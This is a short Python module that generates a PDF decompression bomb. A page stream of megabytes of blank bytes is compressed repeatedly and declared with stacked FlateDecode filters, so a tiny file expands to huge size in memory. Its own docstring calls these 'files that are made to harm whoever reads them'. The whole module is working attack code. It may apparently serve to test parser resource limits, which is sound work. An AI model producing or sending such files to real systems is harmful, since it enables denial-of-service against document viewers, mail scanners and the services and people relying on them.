"""Files that are made to harm whoever reads them; small on the wire, large in memory."""

import zlib


def inflating_pdf(megabytes: int, *, times: int) -> bytes:
    """Return a small PDF with one page whose stream is compressed several times over."""
    compressor = zlib.compressobj(9)
    stream = b"".join(compressor.compress(b" " * (1 << 20)) for _ in range(megabytes)) + compressor.flush()
    for _ in range(times - 1):
        stream = zlib.compress(stream, 9)
    filters = b"/FlateDecode" * times
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>",
        b"<</Length %d/Filter[%s]>>stream\n%s\nendstream" % (len(stream), filters, stream),
    )
    return _with_table(objects)


def _with_table(objects: tuple[bytes, ...]) -> bytes:
    data, places = b"%PDF-1.4\n", b""
    for number, content in enumerate(objects, start=1):
        places += b"%010d 00000 n \n" % len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    count = len(objects) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\n" % (count, places, count)
    return data + table + b"startxref\n%d\n%%%%EOF" % len(data)
